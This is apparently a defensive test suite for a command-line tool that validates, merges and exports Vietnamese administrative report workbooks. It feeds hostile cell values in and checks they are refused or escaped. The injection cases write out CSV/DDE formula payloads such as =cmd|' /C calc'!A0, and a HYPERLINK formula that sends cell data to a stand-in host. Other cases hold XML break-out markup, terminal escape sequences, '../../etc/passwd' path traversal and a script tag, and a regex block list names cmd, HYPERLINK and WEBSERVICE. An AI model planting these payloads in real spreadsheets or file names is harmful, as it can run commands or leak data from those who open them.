// Hostile input (issue 11), the values inside a report: numbers no cell should hold (1e308, NaN, Infinity in
// the XML, dates and booleans in count cells, error values, text that looks like a number), and text meant to
// run something (CSV formulas, XML markup, control characters, terminal escapes) in unit names and answers.
// Only finite numbers enter a total; nothing a unit typed runs when the CSV or the summary is opened.
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { builtInRegistry } from "../src/templates";
import { readOwnWorkbook } from "../src/xlsx/ownWorkbook";
import {
  cellOf,
  expectValidXlsx,
  GOOD_VALUES,
  HostileCase,
  REPORT_DATE,
  report,
  runCase,
  setCells,
  Typed,
  xmlText,
} from "./support/hostile";

const MERGE = ["merge", "nhan", "--out", "tong-hop.xlsx", "--unit", "UBND tỉnh"];
const UNIT = "UBND huyện Tốt";
/** The style of a date cell in our writer's styles (the report date's, dd/mm/yyyy). */
const DATE_STYLE = 14;
const COUNT = "1.1.1";
const RATE = "3.3.3";
const TEXT = "7.6.1";

const at = (code: string) => `Phụ lục!${cellOf(code)}`;
const withValue = (code: string, value: Typed, unit = UNIT) => report(unit, { ...GOOD_VALUES, [code]: value } as Record<string, Typed>);

/** `cchc check` of a report with one value typed; exit 1 and the cell named when the value is refused. */
function checkValue(name: string, code: string, value: Typed, code_ = 1, extra: Partial<HostileCase> = {}): HostileCase {
  return {
    name: `check: ${name}`,
    files: () => ({ "x.xlsx": withValue(code, value) }),
    argv: ["check", "x.xlsx"],
    code: code_ as 0 | 1,
    names: code_ === 1 ? ["x.xlsx", at(code)] : ["x.xlsx"],
    ...extra,
  };
}

/** A merge of two reports: the value never enters a total as anything but a finite number, the summary holds no Infinity or NaN. */
function mergeValue(name: string, code: string, value: Typed, check?: (total: unknown) => void): HostileCase {
  return {
    name: `merge: ${name}`,
    files: () => ({ "nhan/a.xlsx": withValue(code, value, "UBND huyện A"), "nhan/b.xlsx": withValue(code, value, "UBND huyện B") }),
    argv: MERGE,
    code: 0,
    merged: ["nhan/a.xlsx", "nhan/b.xlsx"],
    after: (dir, run) => {
      const bytes = readFileSync(path.join(dir, "tong-hop.xlsx"));
      expect(xmlText(bytes)).not.toMatch(/<v>[^<]*(Infinity|NaN)[^<]*<\/v>/);
      if (run.lang === "vi" && check) check(readOwnWorkbook(bytes, "t.xlsx", builtInRegistry()).read!.cells.get(code)!.raw);
    },
  };
}

/** Every field of a CSV (RFC 4180 quoting). */
function csvFields(text: string): string[] {
  const fields: string[] = [];
  for (const m of text.replace(/^\ufeff/, "").matchAll(/"((?:[^"]|"")*)"|([^,\r\n]*)/g))
    if (m[0] !== "" || m.index === 0) fields.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]);
  return fields;
}

/** `export --csv` of a report holding `value`: no field starts a formula (a negative number is a number). */
function csvCase(name: string, code: string, value: string, shown = `'${value}`): HostileCase {
  return {
    name: `export --csv: ${name}`,
    files: () => ({ "x.xlsx": withValue(code, value) }),
    argv: ["export", "x.xlsx", "--csv"],
    code: 0,
    after: (_, run) => {
      const risky = csvFields(run.stdout).filter((f) => /^[=+@\t\r]/.test(f) || (/^-/.test(f) && !/^-\d+(\.\d+)?$/.test(f)));
      expect(risky).toEqual([]);
      expect(run.stdout).toContain(shown.replace(/"/g, '""'));
    },
  };
}

/** A merge whose unit name (or answer) is hostile text: the summary is a valid workbook holding it as text, never a formula. */
function mergeText(name: string, unit: string, answer = "Đã kết nối", extra: Partial<HostileCase> = {}): HostileCase {
  return {
    name: `merge: ${name}`,
    files: () => ({ "nhan/a.xlsx": report(unit, { ...GOOD_VALUES, [TEXT]: answer }), "nhan/b.xlsx": report("UBND huyện B") }),
    argv: MERGE,
    code: 0,
    merged: ["nhan/a.xlsx", "nhan/b.xlsx"],
    after: async (dir, run) => {
      const bytes = readFileSync(path.join(dir, "tong-hop.xlsx"));
      const xml = xmlText(bytes);
      // No formula holds what a unit typed: the summary's formulas are its own.
      for (const f of xml.matchAll(/<f>([^<]*)<\/f>/g)) expect(f[1]).not.toMatch(/cmd|HYPERLINK|WEBSERVICE|calc/i);
      // eslint-disable-next-line no-control-regex -- what a terminal must never receive
      expect(run.stdout + run.stderr).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
      await expectValidXlsx(bytes);
    },
    ...extra,
  };
}

const CASES: HostileCase[] = [
  // ---- numbers ----
  checkValue("1e308 in a count", COUNT, 1e308),
  checkValue("1,7976931348623157e308 (the largest double) in a rate", RATE, Number.MAX_VALUE),
  checkValue("Infinity in the cell's XML (<v>1e999</v>)", COUNT, { v: "1e999" }),
  checkValue("NaN in the cell's XML", COUNT, { v: "NaN" }),
  checkValue("letters in a number cell's XML", COUNT, { v: "mười hai" }),
  checkValue("an empty <v/> in a number cell", COUNT, { v: "" }, 0),
  checkValue('the text "NaN"', COUNT, "NaN"),
  checkValue('the text "Infinity"', COUNT, "Infinity"),
  checkValue('the text "-Infinity" in a rate', RATE, "-Infinity"),
  checkValue('"1.755" typed as text in a count (the sheet\'s formulas ignore it)', COUNT, "1.755", 1, {
    says: { vi: /"1\.755" được nhập dạng văn bản/, en: /"1\.755" was typed as text/ },
  }),
  checkValue('"98,4" typed as text in a rate', RATE, "98,4", 1, { says: { vi: /"98,4"/, en: /"98,4"/ } }),
  checkValue('"1,5" in a count (not whole)', COUNT, "1,5"),
  checkValue('"1.5" in a count (ambiguous)', COUNT, "1.5", 1, { says: { vi: /1,5/, en: /1,5/ } }),
  checkValue("a rate of 150 %", RATE, 150, 1, { says: { vi: /100/, en: /100/ } }),
  checkValue("a rate of -20 %", RATE, -20),
  checkValue("a count of -5", COUNT, -5),
  checkValue('a count typed "-5"', COUNT, "-5"),
  checkValue("a count of 20 digits", COUNT, "99999999999999999999"),
  checkValue("a count of 12,5", COUNT, 12.5),
  checkValue("a date in a count cell", COUNT, { v: "44300", s: DATE_STYLE }),
  checkValue("a date serial of 1e308 in a date-formatted count cell", COUNT, { v: "1e308", s: DATE_STYLE }),
  checkValue("a negative date serial", COUNT, { v: "-700000", s: DATE_STYLE }),
  checkValue("TRUE in a count", COUNT, true),
  checkValue("FALSE in a rate", RATE, false),
  checkValue("the error value #DIV/0! in a count", COUNT, { v: "#DIV/0!", t: "e" }),
  checkValue("the error value #REF! cached by a computed total", "3.1.3", { f: "SUM(#REF!)", v: "#REF!", t: "e" }),
  checkValue("a formula typed into a count, no cached result", COUNT, { f: "1+1" }, 0),
  checkValue("a formula typed into a count, cached 1e308", COUNT, { f: "10^308", v: "1e308" }),
  checkValue("a shared string index past the end", COUNT, { v: "999999", t: "s" }, 0),
  checkValue("a shared string index of -1", COUNT, { v: "-1", t: "s" }, 0),
  checkValue("a boolean cell holding 7", COUNT, { v: "7", t: "b" }),
  checkValue('full-width digits "１２"', COUNT, "１２"),
  checkValue('"12 người" in a count', COUNT, "12 người"),
  checkValue("40.000 characters in a count", COUNT, "9".repeat(40_000), 1, {
    after: (_, run) => expect(run.stdout.length).toBeLessThan(20_000),
  }),
  ...["1e308", "-1e10", "NaN"].map((serial): HostileCase => ({
    name: `check: a report date serial of ${serial} (CCHC_NgayBaoCao)`,
    files: () => ({ "x.xlsx": setCells(report(UNIT, GOOD_VALUES as Record<string, Typed>), { [REPORT_DATE()]: { v: serial } }) }),
    argv: ["check", "x.xlsx"],
    code: 0,
  })),
  mergeValue("1e308 in a count of two units (never summed to Infinity)", COUNT, 1e308, (total) => expect(total).toBeNull()),
  mergeValue("Infinity in the XML of two units", COUNT, { v: "1e999" }, (total) => expect(total).toBeNull()),
  mergeValue("999.999.999.999.999 (15 digits) in two units: summed exactly", COUNT, 999_999_999_999_999, (total) =>
    expect(typeof total === "number" ? Number.isFinite(total) : total === null).toBe(true),
  ),
  mergeValue("a rate of 150 % in two units (never in the mean)", RATE, 150, (total) => expect(total).toBeNull()),
  {
    name: "merge: weighted rates whose weights are all 0: the mean stays within 0–100",
    files: () => ({
      "nhan/a.xlsx": report("UBND huyện A", { ...GOOD_VALUES, "3.1.3.a": 0, "3.1.3.b": 0, "3.1.3.c": 0, [RATE]: 100 }),
      "nhan/b.xlsx": report("UBND huyện B", { ...GOOD_VALUES, "3.1.3.a": 0, "3.1.3.b": 0, "3.1.3.c": 0, [RATE]: 100 }),
    }),
    argv: MERGE,
    code: 0,
    after: (dir) => {
      const raw = readOwnWorkbook(readFileSync(path.join(dir, "tong-hop.xlsx")), "t.xlsx", builtInRegistry()).read!.cells.get(RATE)!.raw;
      if (typeof raw === "number") expect(raw).toBeLessThanOrEqual(100);
    },
  },
  {
    name: "export --json: NaN, Infinity and 1e308 in cells give valid JSON with finite numbers",
    files: () => ({
      "x.xlsx": report(UNIT, { ...GOOD_VALUES, [COUNT]: { v: "NaN" }, "1.1.2": { v: "1e999" }, "1.1.3": 1e308 }),
    }),
    argv: ["export", "x.xlsx", "--json"],
    code: 0,
    after: (_, run) => {
      const values = (JSON.parse(run.stdout) as { values: { value?: number }[] }).values;
      for (const v of values) if (v.value !== undefined && v.value !== null) expect(Number.isFinite(v.value)).toBe(true);
    },
  },
  // ---- injection ----
  csvCase("a text answer =cmd|' /C calc'!A0", TEXT, "=cmd|' /C calc'!A0"),
  csvCase("a text answer +SUM(1;2)", TEXT, "+SUM(1;2)"),
  csvCase("a text answer @SUM(1+1)*cmd", TEXT, "@SUM(1+1)*cmd"),
  csvCase("a text answer -2+3+cmd", TEXT, "-2+3+cmd"),
  csvCase("a text answer starting with a tab (trimmed, then escaped)", TEXT, "\t=1+1", "'=1+1"),
  csvCase("a text answer starting with a carriage return", TEXT, "\r=1+1", "'=1+1"),
  csvCase("a text answer starting with a no-break space", TEXT, "\u00a0=1+1", "'=1+1"),
  csvCase("a count holding =1+1 as text", COUNT, "=1+1"),
  {
    name: "export (text): escape sequences in an answer never reach the terminal",
    files: () => ({ "x.xlsx": withValue(TEXT, "\u001b]0;pwned\u0007\u001b[2J\u009b31mxong") }),
    argv: ["export", "x.xlsx"],
    code: 0,
    // eslint-disable-next-line no-control-regex -- what a terminal must never receive
    after: (_, run) => expect(run.stdout).not.toMatch(/[\u001b\u0007\u009b]/),
  },
  {
    name: "check: escape sequences in the unit name never reach the terminal",
    files: () => ({ "x.xlsx": report("\u001b[2J\u001b[31mUBND huyện Tốt\u0007", GOOD_VALUES as Record<string, Typed>) }),
    argv: ["check", "x.xlsx"],
    code: 0,
    // eslint-disable-next-line no-control-regex -- what a terminal must never receive
    after: (_, run) => expect(run.stdout + run.stderr).not.toMatch(/[\u001b\u0007]/),
  },
  mergeText("a unit name =HYPERLINK(…) and an answer =cmd|…", '=HYPERLINK("http://x.example/?"&A1,"Sở Y tế")', "=cmd|' /C calc'!A0"),
  mergeText("a unit name and an answer with XML markup", '<b>Sở "Y" & tế</b> ]]>', '</t></is></c><c r="A1"><f>cmd</f></c>'),
  mergeText("control characters in the unit name and the answer", "Sở\u0001 Y\u0008 tế\u000b\u001f\u007f", "Đã\u0000 kết\u0003 nối"),
  mergeText("noncharacters and a lone surrogate in the unit name", "Sở Y tế \ufffe\uffff\ud800", "Đã kết nối \udfff"),
  mergeText("escape sequences in the unit name", "\u001b[2J\u009b31mSở Y tế", "\u001b]0;x\u0007Đã kết nối"),
  mergeText("an answer of 40.000 characters (longer than a cell)", "Sở Y tế", "Đ".repeat(40_000)),
  mergeText("a unit name of 5.000 characters", `Sở ${"Y tế ".repeat(1000)}`),
  mergeText("a unit name with line breaks and tabs", "Sở\nY\ttế\r\n"),
  mergeText("a bidi override in the unit name", "\u202eSở Y tế\u202c"),
  {
    name: "new --roster: names that are formulas, paths and device names become safe file names inside the folder",
    files: () => ({ "ds.txt": "=cmd|' /C calc'!A0\n../../etc/passwd\nCON\na/b\\c:d*e?\n<script>alert(1)</script>\n" }),
    argv: ["new", "--template", "quang-ngai-2021", "--period", "2021-Q2", "--level", "so", "--roster", "ds.txt", "--out", "gui"],
    code: 0,
    after: (dir) => {
      const files = readdirSync(path.join(dir, "gui"));
      expect(files).toHaveLength(5);
      for (const f of files) expect(f).toMatch(/^[A-Za-z0-9._-]+\.xlsx$/);
      expect(files.map((f) => f.replace(/\.xlsx$/, "").toUpperCase())).not.toContain("CON");
      expect(readdirSync(dir).sort()).toEqual(["ds.txt", "gui"]);
    },
  },
  mergeText("a roster with formulas and markup", "=1+1", "Đã kết nối", {
    files: () => ({ "nhan/a.xlsx": report("=1+1"), "nhan/b.xlsx": report("UBND huyện B"), "ds.txt": "=1+1\n<b>x</b>&\nUBND huyện B\n" }),
    argv: [...MERGE, "--roster", "ds.txt"],
  }),
];

describe("hostile values", () => {
  it.each(CASES.map((c) => [c.name, c] as const))("%s", async (_, c) => runCase(c), 120_000);
});
